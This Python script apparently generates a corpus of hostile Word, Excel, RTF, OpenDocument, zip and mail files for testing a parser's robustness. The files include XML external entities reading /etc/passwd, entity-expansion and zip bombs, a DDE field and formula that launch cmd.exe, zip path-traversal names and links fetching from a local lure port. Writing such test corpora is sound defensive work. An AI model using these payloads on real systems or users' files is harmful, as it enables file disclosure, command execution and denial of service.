"""Hostile office files by the hundred, the same ones every time: bombs, cycles, links to elsewhere, macros, broken
and absurd XML, sheets of a million rows, archives and mails that lie.

`python tests/hostile/office_corpus.py DIR` writes them. Nothing here is anybody's real document.
"""

from __future__ import annotations

import io
import random
import struct
import sys
import warnings
import zipfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

SEED = 20261126
Made = tuple[str, bytes]
Parts = Mapping[str, bytes | str]

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
LURE = "http://127.0.0.1:{port}/"
"""Where a file that fetches something would ask."""


def packed(parts: Parts, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name)  # no time of this machine
            info.compress_type = method
            archive.writestr(info, data)
    return out.getvalue()


def relations(*entries: tuple[str, str, str]) -> str:
    """Relationships: id, kind, target; a target with `://` is external."""
    outside = ' TargetMode="External"'
    inner = "".join(
        f'<Relationship Id="{ident}" Type="{REL}/{kind}" Target="{target}"{outside if "://" in target else ""}/>'
        for ident, kind, target in entries
    )
    return f"{HEAD}<Relationships {RELS}>{inner}</Relationships>"


# ---- Word -----------------------------------------------------------------------------------------------------


def paragraph(words: str, more: str = "") -> str:
    return f"<w:p>{more}<w:r><w:t>{words}</w:t></w:r></w:p>"


def word_table(rows: list[list[str]], cell: str = "") -> str:
    lines = "".join(
        f"<w:tr>{''.join(f'<w:tc><w:tcPr>{cell}</w:tcPr>{paragraph(text)}</w:tc>' for text in row)}</w:tr>"
        for row in rows
    )
    return f"<w:tbl>{lines}</w:tbl>"


ROWS = [["STT", "Xa", "So"], ["1", "An Binh", "12"], ["2", "Tan Lap", "30"], ["", "Tong", "42"]]


def docx(body: str, head: str = HEAD, more: Parts | None = None, rels: str = "") -> bytes:
    document = f"{head}<w:document {W} {R}><w:body>{body}</w:body></w:document>"
    return packed(
        {
            "_rels/.rels": relations(("r1", "officeDocument", "word/document.xml")),
            "word/document.xml": document,
            "word/_rels/document.xml.rels": rels or relations(),
            **(more or {}),
        }
    )


NUMBERING = (f'{HEAD}<w:numbering {W}><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="x"/>'
             '<w:lvl w:ilvl="0"><w:start w:val="99999999999"/><w:numFmt w:val="lowerRoman"/><w:lvlText w:val="%1.%2.%9"/></w:lvl>'
             '</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>')  # fmt: skip
NUMBERED = paragraph("a", '<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>') * 3


def numbered_docx(level: str = "0") -> bytes:
    """Numbered paragraphs above a table."""
    body = NUMBERED.replace('w:ilvl w:val="0"', f'w:ilvl w:val="{level}"') + word_table(ROWS)
    rels = relations(("r1", "numbering", "numbering.xml"))
    return docx(body, more={"word/numbering.xml": NUMBERING}, rels=rels)


def word() -> Iterator[Made]:  # noqa: PLR0915 - a list
    table = word_table(ROWS)
    laughs = "".join(f"<!ENTITY a{n} '" + f"&a{n - 1};" * 10 + "'>" for n in range(1, 10))
    yield "entities.docx", docx(paragraph("&a9;"), f'{HEAD}<!DOCTYPE d [<!ENTITY a0 "ha">{laughs}]>')
    yield (
        "entity-file.docx",
        docx(paragraph("&x;"), f'{HEAD}<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    )
    yield "entity-net.docx", docx(paragraph("&x;"), f'{HEAD}<!DOCTYPE d [<!ENTITY x SYSTEM "{LURE}">]>')
    yield "doctype-net.docx", docx(table, f'{HEAD}<!DOCTYPE d SYSTEM "{LURE}d.dtd">')
    links = relations(*((f"r{n}", kind, LURE + kind) for n, kind in enumerate(
        ("image", "attachedTemplate", "aFChunk", "oleObject", "frame", "subDocument", "hyperlink", "settings",
         "styles", "numbering", "footnotes", "header", "footer", "comments"))))  # fmt: skip
    chunk = '<w:altChunk r:id="r2"/><w:subDoc r:id="r5"/>'
    yield "linked.docx", docx(table + chunk, rels=links)
    for name, code in (
        ("dde", 'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
        ("include", f'INCLUDETEXT "{LURE}"'),
    ):
        instruction = code.replace('"', "&quot;")
        field = f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>7</w:t></w:r></w:fldSimple></w:p>'
        yield f"field-{name}.docx", docx(field + table)
    yield "macro.docm", docx(table, more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(4000)})
    yield (
        "nested-tables.docx",
        docx("<w:tbl><w:tr><w:tc>" * 3000 + paragraph("x") + "</w:tc></w:tr></w:tbl>" * 3000),
    )
    yield "nested-200.docx", docx("<w:tbl><w:tr><w:tc>" * 60 + paragraph("5") + "</w:tc></w:tr></w:tbl>" * 60)
    yield "nested-sdt.docx", docx("<w:sdt><w:sdtContent>" * 5000 + table + "</w:sdtContent></w:sdt>" * 5000)
    yield "runs-deep.docx", docx("<w:p>" + "<w:hyperlink>" * 4000 + "</w:hyperlink>" * 4000 + "</w:p>")
    yield "paragraphs.docx", docx("<w:p/>" * 400_000 + table)
    yield "one-run.docx", docx(paragraph("1 " * 1_000_000))
    yield "span.docx", docx(word_table(ROWS, '<w:gridSpan w:val="999999999"/>'))
    yield "span-negative.docx", docx(word_table(ROWS, '<w:gridSpan w:val="-5"/>'))
    yield "span-word.docx", docx(word_table(ROWS, '<w:gridSpan w:val="many"/>'))
    yield "merged-all.docx", docx(word_table(ROWS, "<w:vMerge/>"))
    yield (
        "before.docx",
        docx('<w:tbl><w:tr><w:trPr><w:gridBefore w:val="2000000"/></w:trPr><w:tc/></w:tr></w:tbl>'),
    )
    wide = word_table([[str(n) for n in range(4000)]] * 3)
    yield "four-thousand-columns.docx", docx(wide)
    yield "rows-60000.docx", docx(word_table([["1", "2"]] * 60_000))
    cycle = (f"{HEAD}<w:styles {W}>" + "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 3}"/></w:style>' for n in range(3))
        + "</w:styles>")  # fmt: skip
    styled = paragraph("a", '<w:pPr><w:pStyle w:val="s0"/></w:pPr>') + table
    yield (
        "style-cycle.docx",
        docx(styled, more={"word/styles.xml": cycle}, rels=relations(("r1", "styles", "styles.xml"))),
    )
    numbering, numbered = NUMBERING, NUMBERED
    yield (
        "numbering.docx",
        docx(
            numbered + table,
            more={"word/numbering.xml": numbering},
            rels=relations(("r1", "numbering", "numbering.xml")),
        ),
    )
    level = numbered.replace('w:ilvl w:val="0"', 'w:ilvl w:val="-7"').replace(
        'numId w:val="1"', 'numId w:val="x"'
    )
    yield (
        "numbering-level.docx",
        docx(
            level + table,
            more={"word/numbering.xml": numbering},
            rels=relations(("r1", "numbering", "numbering.xml")),
        ),
    )
    notes = f'{HEAD}<w:footnotes {W}><w:footnote w:id="1"><w:p><w:r><w:footnoteReference w:id="1"/><w:t>12</w:t></w:r></w:p></w:footnote></w:footnotes>'
    noted = "<w:p><w:r><w:footnoteReference w:id='1'/></w:r></w:p>" + table
    yield (
        "note-cycle.docx",
        docx(noted, more={"word/footnotes.xml": notes}, rels=relations(("r1", "footnotes", "footnotes.xml"))),
    )
    yield (
        "relation-cycle.docx",
        docx(table, rels=relations(("r1", "header", "document.xml"), ("r2", "footnotes", "document.xml"))),
    )
    yield "relation-up.docx", docx(table, rels=relations(("r1", "styles", "../../../../etc/passwd")))
    yield (
        "no-document.docx",
        packed({"_rels/.rels": relations(("r1", "officeDocument", "word/document.xml"))}),
    )
    yield "no-body.docx", packed({"word/document.xml": f"{HEAD}<w:document {W}/>"})
    yield "other-root.docx", packed({"word/document.xml": "<a/>"})
    yield "cut-xml.docx", packed({"word/document.xml": f"{HEAD}<w:document {W}><w:body>{table[:200]}"})
    yield (
        "latin.docx",
        packed({"word/document.xml": f"{HEAD}<w:document {W}><w:body>".encode() + b"\xff\xfe\xe9"}),
    )
    yield (
        "utf16.docx",
        packed(
            {"word/document.xml": f"<w:document {W}><w:body>{table}</w:body></w:document>".encode("utf-16")}
        ),
    )
    yield "empty-part.docx", packed({"word/document.xml": b""})
    yield "controls.docx", docx(paragraph("&#1;&#31;") + table)
    yield (
        "million-attributes.docx",
        docx("<w:p " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>" + table),
    )
    yield (
        "bomb.docx",
        packed({"word/document.xml": f"{HEAD}<w:document {W}><w:body>".encode() + b" " * (300 << 20)}),
    )
    yield (
        "bomb-ratio.docx",
        docx(
            table,
            more={"word/styles.xml": b" " * (100 << 20)},
            rels=relations(("r1", "styles", "styles.xml")),
        ),
    )
    yield (
        "parts.docx",
        packed({f"p{n}": b"" for n in range(21_000)} | {"word/document.xml": "<a/>"}, zipfile.ZIP_STORED),
    )


# ---- Excel ----------------------------------------------------------------------------------------------------


def xlsx(sheet: str | bytes, more: Parts | None = None, rels: str = "", sheets: str = "") -> bytes:
    listed = sheets or '<sheet name="A" sheetId="1" r:id="r1"/>'
    given = rels or relations(
        ("r1", "worksheet", "worksheets/sheet1.xml"),
        ("r2", "sharedStrings", "sharedStrings.xml"),
        ("r3", "styles", "styles.xml"),
    )
    return packed(
        {
            "_rels/.rels": relations(("r1", "officeDocument", "xl/workbook.xml")),
            "xl/workbook.xml": f"{HEAD}<workbook {S} {R}><sheets>{listed}</sheets></workbook>",
            "xl/_rels/workbook.xml.rels": given,
            "xl/worksheets/sheet1.xml": sheet,
            **(more or {}),
        }
    )


def cells(rows: list[list[str]]) -> str:
    def cell(text: str) -> str:
        return f"<c><v>{text}</v></c>" if text.isdigit() else f'<c t="inlineStr"><is><t>{text}</t></is></c>'

    return "".join(f"<row>{''.join(map(cell, row))}</row>" for row in rows)


def sheet(inner: str, before: str = "", after: str = "") -> str:
    return f"{HEAD}<worksheet {S} {R}>{before}<sheetData>{inner}</sheetData>{after}</worksheet>"


def excel() -> Iterator[Made]:
    plain = cells(ROWS)
    yield (
        "million-rows.xlsx",
        xlsx(sheet("".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 1_048_577)))),
    )
    yield "million-empty-rows.xlsx", xlsx(sheet("<row/>" * 1_048_576 + plain))
    yield "last-row.xlsx", xlsx(sheet(plain + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))
    yield "columns-16384.xlsx", xlsx(sheet("<row>" + "<c><v>1</v></c>" * 16_384 + "</row>" + plain))
    yield "beyond.xlsx", xlsx(sheet(plain + '<row r="1048577"><c r="XFE1048577"><v>1</v></c></row>'))
    yield "far-letters.xlsx", xlsx(sheet('<row r="1"><c r="ZZZZZZZZ1"><v>1</v></c></row>' + plain))
    yield "negative-row.xlsx", xlsx(sheet('<row r="-5"><c r="A-5"><v>1</v></c></row>' + plain))
    yield "row-zero.xlsx", xlsx(sheet('<row r="0"><c r="A0"><v>1</v></c></row>' + plain))
    yield "row-huge.xlsx", xlsx(sheet(f'<row r="{"9" * 400}"><c><v>1</v></c></row>' + plain))
    yield "same-cell.xlsx", xlsx(sheet('<row r="1"><c r="A1"><v>1</v></c></row>' * 100_000))
    yield (
        "merges.xlsx",
        xlsx(
            sheet(
                plain, after="<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 300_000 + "</mergeCells>"
            )
        ),
    )
    yield (
        "merge-odd.xlsx",
        xlsx(
            sheet(
                plain,
                after='<mergeCells><mergeCell ref="A1"/><mergeCell ref="B9:A1"/><mergeCell ref=":::"/></mergeCells>',
            )
        ),
    )
    yield (
        "cols.xlsx",
        xlsx(
            sheet(
                plain,
                '<cols><col min="1" max="999999999" hidden="1" width="1e400"/><col min="-4" max="x"/></cols>',
            )
        ),
    )
    yield (
        "string-index.xlsx",
        xlsx(
            sheet('<row><c t="s"><v>999999</v></c><c t="s"><v>-1</v></c><c t="s"><v>x</v></c></row>' + plain)
        ),
    )
    for name, value in (
        ("exponent", "1e308"),
        ("overflow", "1e999999"),
        ("nan", "NaN"),
        ("inf", "-INF"),
        ("word", "abc"),
        ("digits", "9" * 100_000),
        ("blank", " "),
        ("dates", "-99999999"),
    ):
        yield (
            f"value-{name}.xlsx",
            xlsx(
                sheet(f'<row><c s="1"><v>{value}</v></c><c><v>{value}</v></c></row>' + plain),
                {"xl/styles.xml": styles("dd/mm/yyyy")},
            ),
        )
    for name, form in (
        ("long", "0" * 60_000),
        ("sections", ";" * 5000),
        ("quotes", '"' * 4001),
        ("brackets", "[" * 4000),
        ("colours", "[Red]" * 3000),
        ("fractions", "# ??/??" * 500),
        ("elapsed", "[h]" * 900),
    ):
        yield (
            f"format-{name}.xlsx",
            xlsx(sheet('<row><c s="1"><v>1234.5</v></c></row>' + plain), {"xl/styles.xml": styles(form)}),
        )
    loop = '<row r="1"><c r="A1"><f>B1</f><v>1</v></c><c r="B1"><f>A1</f><v>1</v></c></row>'
    yield "formula-cycle.xlsx", xlsx(sheet(loop + '<row r="2"><c r="A2"><f>SUM(A1:A2)</f><v>3</v></c></row>'))
    calls = "".join(
        f'<row r="{n}"><c r="A{n}"><f>{f}</f><v>{n}</v></c><c r="B{n}"><v>{n}</v></c></row>'
        for n, f in enumerate(
            (
                f"WEBSERVICE('{LURE}')",
                "cmd|'/c calc'!A0",
                "[1]Sheet1!A1",
                f"HYPERLINK('{LURE}')",
                "SUM(A1:XFD1048576)",
                "(" * 9000,
                "SUM(" * 9000,
                "A" * 9000,
            ),
            1,
        )
    )
    yield "formula-calls.xlsx", xlsx(sheet(calls))
    wide = "".join(
        f'<row r="{r}">' + "".join(f"<c><f>SUM(A1:XFD{r})</f><v>1</v></c>" for _ in range(40)) + "</row>"
        for r in range(1, 200)
    )
    yield "formula-everything.xlsx", xlsx(sheet(wide))
    yield (
        "external-book.xlsx",
        xlsx(
            sheet(plain),
            {"xl/externalLinks/externalLink1.xml": f"<externalLink {S}/>"},
            relations(
                ("r1", "worksheet", "worksheets/sheet1.xml"),
                ("r9", "externalLink", LURE + "b.xlsx"),
                ("r8", "connections", LURE),
            ),
        ),
    )
    yield "external-sheet.xlsx", xlsx(sheet(plain), rels=relations(("r1", "worksheet", LURE + "sheet1.xml")))
    yield "macro.xlsm", xlsx(sheet(plain), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(4000)})
    yield (
        "entities.xlsx",
        xlsx(
            f'{HEAD}<!DOCTYPE d [<!ENTITY a "{"ha" * 1000}"><!ENTITY b "{"&a;" * 1000}">]><worksheet {S}><sheetData><row><c t="str"><v>&b;</v></c></row></sheetData></worksheet>'
        ),
    )
    yield (
        "entity-late.xlsx",
        xlsx(
            HEAD
            + "<!-- "
            + "x" * 9000
            + f' --><!DOCTYPE d [<!ENTITY a SYSTEM "{LURE}">]><worksheet {S}><sheetData><row><c t="str"><v>&a;</v></c></row></sheetData></worksheet>'
        ),
    )
    yield "cut.xlsx", xlsx(sheet(plain)[:-150])
    yield (
        "no-sheet-part.xlsx",
        packed(
            {
                "_rels/.rels": relations(("r1", "officeDocument", "xl/workbook.xml")),
                "xl/workbook.xml": f"{HEAD}<workbook {S} {R}><sheets><sheet name='A' r:id='r1'/></sheets></workbook>",
            }
        ),
    )
    many = "".join(f'<sheet name="A{n}" sheetId="{n}" r:id="r1"/>' for n in range(1, 3000))
    yield "three-thousand-sheets.xlsx", xlsx(sheet(plain), sheets=many)
    yield "sheet-is-workbook.xlsx", xlsx(sheet(plain), rels=relations(("r1", "worksheet", "workbook.xml")))
    yield (
        "strings-bomb.xlsx",
        xlsx(
            sheet(plain),
            {"xl/sharedStrings.xml": f"{HEAD}<sst {S}>".encode() + b"<si><t>a</t></si>" * 9_000_000},
        ),
    )
    yield (
        "styles-odd.xlsx",
        xlsx(
            sheet(
                '<row><c s="99999999"><v>5</v></c><c s="-3"><v>5</v></c><c s="x"><v>5</v></c></row>' + plain
            ),
            {
                "xl/styles.xml": f"{HEAD}<styleSheet {S}><fonts/><cellXfs><xf fontId='77' borderId='x' numFmtId='y'/></cellXfs></styleSheet>"
            },
        ),
    )
    yield (
        "drawing-cycle.xlsx",
        xlsx(
            sheet(plain),
            {
                "xl/worksheets/_rels/sheet1.xml.rels": relations(
                    ("r1", "drawing", "sheet1.xml"), ("r2", "comments", LURE)
                )
            },
        ),
    )
    yield "ole.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 4096
    yield "ole-cycle.xls", ole_cycle()
    yield "biff.xls", b"\x09\x08\x10\x00\x00\x06\x05\x00" + b"\xbb\x0d\xcc\x07" + bytes(range(256)) * 40
    yield "text.xls", "STT\tXã\tSố\n1\tAn\t12\n".encode() * 3


def styles(form: str) -> str:
    code = form.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    return f'{HEAD}<styleSheet {S}><numFmts><numFmt numFmtId="200" formatCode="{code}"/></numFmts><fonts><font/></fonts><borders><border/></borders><cellXfs><xf/><xf numFmtId="200"/></cellXfs></styleSheet>'


def ole_cycle() -> bytes:
    """A compound file whose table of sectors leads from each sector to itself."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 44, 1, 1, 0, 4096, 2, 1, 2, 1, 0)
    struct.pack_into("<I", header, 76, 0)
    sector = struct.pack("<128I", *([1] * 128))
    entry = "Workbook".encode("utf-16-le").ljust(64, b"\0") + struct.pack(
        "<HBBIII", 18, 2, 1, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF
    )
    return (
        bytes(header)
        + sector
        + (entry.ljust(116, b"\0") + struct.pack("<III", 1, 1 << 30, 0)) * 4
        + bytes(2048)
    )


# ---- RTF, OpenDocument, web pages, archives, mails --------------------------------------------------------------


def rtf() -> Iterator[Made]:
    row = r"\trowd\cellx1000\cellx2000 a\cell 12\cell\row "
    yield "groups.rtf", b"{\\rtf1 " + b"{" * 200_000 + b"}" * 200_000 + b"}"
    yield "open-groups.rtf", b"{\\rtf1 " + b"{\\b " * 100_000
    yield "closed.rtf", b"{\\rtf1 " + b"}" * 100_000
    yield "binary.rtf", b"{\\rtf1 a\\bin4294967295 xyz}" + row.encode()
    yield "binary-negative.rtf", b"{\\rtf1 a\\bin-5 xyz}" + row.encode()
    yield "unicode.rtf", b"{\\rtf1 \\u-99999999999 ? \\u1114112 ? \\uc9999999 \\u55296 ?}"
    yield "codepage.rtf", b"{\\rtf1\\ansicpg99999 {\\fonttbl{\\f0\\fcharset999 .VnTime;}}\\f0 a\\'ff\\'zz}"
    yield (
        "object.rtf",
        b"{\\rtf1 {\\object\\objautlink{\\*\\objdata " + b"d0cf11e0" * 20_000 + b"}}" + row.encode() + b"}",
    )
    yield (
        "field.rtf",
        b'{\\rtf1 {\\field{\\*\\fldinst INCLUDEPICTURE "' + LURE.encode() + b'"}{\\fldrslt 7}}}',
    )
    yield "template.rtf", b"{\\rtf1 {\\*\\template " + LURE.encode() + b"}" + row.encode() + b"}"
    yield "rows.rtf", b"{\\rtf1 " + row.encode() * 60_000 + b"}"
    yield "cells.rtf", b"{\\rtf1 \\trowd" + b"\\cellx9" * 100_000 + b" a" + b"\\cell" * 100_000 + b"\\row}"
    yield "cellx.rtf", b"{\\rtf1 \\trowd\\cellx-99999999999\\cellx99999999999 a\\cell b\\cell\\row}"
    yield (
        "nest.rtf",
        b"{\\rtf1 "
        + b"\\itap2147483647 a\\nestcell{\\*\\nesttableprops\\trowd\\cellx9\\nestrow}" * 3000
        + b"}",
    )
    yield "control.rtf", b"{\\rtf1 \\" + b"a" * 1_000_000 + b"}"
    yield "number.rtf", b"{\\rtf1 \\fs" + b"9" * 100_000 + b" a}"
    yield "cut.rtf", b"{\\rtf1\\ansi \\trowd\\cellx10"
    yield "empty.rtf", b"{\\rtf1}"
    yield "rtf.doc", b"{\\rtf1 " + row.encode() * 3 + b"}"


OFFICE = "urn:oasis:names:tc:opendocument:xmlns:{}:1.0"
OD = (
    " ".join(f'xmlns:{n}="{OFFICE.format(n)}"' for n in ("office", "table", "text", "style"))
    + ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
)


def opened(kind: str, body: str, head: str = HEAD, more: Parts | None = None) -> bytes:
    content = f"{head}<office:document-content {OD}><office:body><office:{kind}>{body}</office:{kind}></office:body></office:document-content>"
    mime = f"application/vnd.oasis.opendocument.{kind}"
    return packed({"mimetype": mime, "content.xml": content, **(more or {})})


def opendocument() -> Iterator[Made]:
    one = '<table:table-cell office:value-type="float" office:value="7"><text:p>7</text:p></table:table-cell>'
    repeated = one.replace("<table:table-cell", '<table:table-cell table:number-columns-repeated="16384"')
    yield (
        "repeat-rows.ods",
        opened(
            "spreadsheet",
            f'<table:table table:name="A"><table:table-row table:number-rows-repeated="1048576">{one}</table:table-row></table:table>',
        ),
    )
    yield (
        "repeat-all.ods",
        opened(
            "spreadsheet",
            f'<table:table table:name="A"><table:table-row table:number-rows-repeated="1048576">{repeated}</table:table-row></table:table>',
        ),
    )
    yield (
        "repeat-huge.ods",
        opened(
            "spreadsheet",
            f'<table:table table:name="A"><table:table-row table:number-rows-repeated="{"9" * 30}">{repeated.replace("16384", "9" * 30)}</table:table-row></table:table>',
        ),
    )
    yield (
        "repeat-negative.ods",
        opened(
            "spreadsheet",
            f'<table:table table:name="A"><table:table-row table:number-rows-repeated="-4">{one}</table:table-row></table:table>',
        ),
    )
    yield (
        "span.ods",
        opened(
            "spreadsheet",
            '<table:table table:name="A"><table:table-row>'
            + one.replace(
                "<table:table-cell",
                '<table:table-cell table:number-columns-spanned="999999999" table:number-rows-spanned="999999999"',
            )
            + "</table:table-row></table:table>",
        ),
    )
    yield (
        "tables.ods",
        opened(
            "spreadsheet",
            f'<table:table table:name="A"><table:table-row>{one}{one}</table:table-row></table:table>' * 3000,
        ),
    )
    yield (
        "value.ods",
        opened(
            "spreadsheet",
            f'<table:table table:name="A"><table:table-row>{one.replace(chr(34) + "7" + chr(34), chr(34) + "1e9999" + chr(34))}{one}</table:table-row></table:table>',
        ),
    )
    yield (
        "link.ods",
        opened(
            "spreadsheet",
            f'<table:table table:name="A"><table:table-source xlink:href="{LURE}"/><table:table-row>{one}{one}</table:table-row></table:table>',
        ),
    )
    yield (
        "entities.ods",
        opened(
            "spreadsheet",
            "&b;",
            f'{HEAD}<!DOCTYPE d [<!ENTITY a "{"ha" * 1000}"><!ENTITY b "{"&a;" * 1000}">]>',
        ),
    )
    yield "spaces.odt", opened("text", '<text:p>a<text:s text:c="999999999"/>b</text:p>')
    yield "spaces-many.odt", opened("text", "<text:p>" + '<text:s text:c="900000"/>' * 3000 + "1</text:p>")
    yield (
        "image.odt",
        opened("text", f'<text:p><draw:frame><draw:image xlink:href="{LURE}i.png"/></draw:frame>12</text:p>'),
    )
    yield (
        "section.odt",
        opened(
            "text",
            f'<text:section><text:section-source xlink:href="{LURE}"/><text:p>1</text:p></text:section>',
        ),
    )
    yield (
        "lists-deep.odt",
        opened(
            "text",
            "<text:list><text:list-item>" * 3000
            + "<text:p>1</text:p>"
            + "</text:list-item></text:list>" * 3000,
        ),
    )
    yield (
        "tables-deep.odt",
        opened(
            "text",
            "<table:table><table:table-row><table:table-cell>" * 2000
            + "</table:table-cell></table:table-row></table:table>" * 2000,
        ),
    )
    cycle = f'{HEAD}<office:document-styles {OD}><office:styles><style:style style:name="a" style:family="paragraph" style:parent-style-name="b"/><style:style style:name="b" style:family="paragraph" style:parent-style-name="a"/></office:styles></office:document-styles>'
    yield (
        "style-cycle.odt",
        opened("text", '<text:p text:style-name="a">12</text:p>', more={"styles.xml": cycle}),
    )
    yield "no-content.odt", packed({"mimetype": "application/vnd.oasis.opendocument.text"})
    yield "cut.odt", opened("text", "<text:p>1")
    yield "web.xls", b"<html><body>" + b"<table><tr><td>" * 3000 + b"1"
    yield (
        "web-span.xls",
        b"<html><table border=1><tr><td colspan=999999999 rowspan=999999999>1</td><td>2</td></tr><tr><td>3</td></tr></table>",
    )
    yield (
        "web.doc",
        f'<html><img src="{LURE}i.png"><script src="{LURE}"></script><table><tr><td>a</td><td>1</td></tr></table></html>'.encode(),
    )


def containers() -> Iterator[Made]:
    inner = packed({"a.txt": "STT\tSo\n1\t12\n2\t30\n"})
    yield (
        "up.zip",
        packed({"../../../../tmp/up.txt": "1\t2\n", "/etc/up.txt": "1\t2\n", "..\\..\\up.txt": "3\t4\n"}),
    )
    yield "many.zip", packed({f"{n}.txt": b"" for n in range(10_050)}, zipfile.ZIP_STORED)
    yield "bomb.zip", packed({"a.txt": b"0" * (200 << 20)})
    yield "deep.zip", packed({"a.zip": packed({"b.zip": packed({"c.zip": packed({"d.zip": inner})})})})
    yield "locked.zip", bytes(inner[:6]) + b"\x01\x00" + inner[8:]
    yield "cut.zip", inner[: len(inner) // 2]
    yield "empty.zip", packed({})
    yield "twice.zip", twice()
    part = "--b\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    yield "deep.eml", ("Content-Type: multipart/mixed; boundary=b\r\n\r\n" + part * 3000).encode()
    yield (
        "base64.eml",
        b"Content-Type: application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + b"%%%" * 9000,
    )
    yield (
        "name.eml",
        b'Content-Type: text/plain; name="../../x.txt"\r\nContent-Disposition: attachment; filename="/etc/../x.txt"\r\n\r\n1\t2\r\n3\t4\r\n',
    )
    yield "headers.eml", b"X-A: b\r\n" * 100_000 + b"\r\n1\t2\r\n"
    yield "charset.eml", b"Content-Type: text/plain; charset=nothing-known\r\n\r\nT\xe9 12\r\n"


def twice() -> bytes:
    """An archive with the same name twice."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of the name that stands twice
        for text in ("STT\tSo\n1\t12\n", "STT\tSo\n1\t21\n"):
            archive.writestr(zipfile.ZipInfo("a.txt"), text)
    return out.getvalue()


# ---- mutations ---------------------------------------------------------------------------------------------------


def mutants(count: int) -> Iterator[Made]:
    """Sound files with bytes of their parts changed, packed again, so that the XML is what is read."""
    draw = random.Random(SEED)
    sound: list[tuple[str, Callable[[bytes], bytes]]] = [
        (".docx", lambda hurt: docx(word_table(ROWS))),
        (".xlsx", lambda hurt: xlsx(sheet(cells(ROWS)))),
        (
            ".ods",
            lambda hurt: opened(
                "spreadsheet",
                "<table:table><table:table-row><table:table-cell><text:p>1</text:p></table:table-cell></table:table-row></table:table>",
            ),
        ),
    ]
    for number in range(count):
        suffix, make = sound[number % len(sound)]
        with zipfile.ZipFile(io.BytesIO(make(b""))) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        name = draw.choice(sorted(parts))
        data = bytearray(parts[name])
        for _ in range(draw.choice((1, 3, 9))):
            data[draw.randrange(len(data))] = draw.randrange(256)
        yield f"mutant-{number:03}{suffix}", packed({**parts, name: bytes(data)})
    for number in range(count // 4):
        data = bytearray(
            b"{\\rtf1\\ansi \\trowd\\cellx1000\\cellx2000 a\\cell 12\\cell\\row b\\par {\\field{\\*\\fldinst X}{\\fldrslt 3}}}"
        )
        for _ in range(4):
            data[draw.randrange(5, len(data))] = draw.choice(b"{}\\ 0a")
        yield f"mutant-{number:03}.rtf", bytes(data)


def everything(port: int, changed: int = 24) -> Iterator[Made]:
    """All hostile office files; what they would fetch is at that port of this machine."""
    for kind in (word, excel, rtf, opendocument, containers):
        for name, data in kind():
            yield name, with_port(data, port)
    yield from mutants(changed)


def with_port(data: bytes, port: int) -> bytes:
    """The file with the port where the lure stands: in the open, or inside its parts."""
    mark = b"{port}"
    if data[:2] != b"PK":
        return data.replace(mark, str(port).encode())
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            if not any(
                mark in archive.read(i)
                for i in archive.infolist()[:12]
                if i.file_size < 1 << 22 and not i.flag_bits & 1
            ):
                return data
            parts = {
                i.filename: archive.read(i).replace(mark, str(port).encode()) for i in archive.infolist()
            }
    except (zipfile.BadZipFile, RuntimeError):
        return data
    return packed(parts)


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in everything(9, 24):
        (folder / name).write_bytes(data)
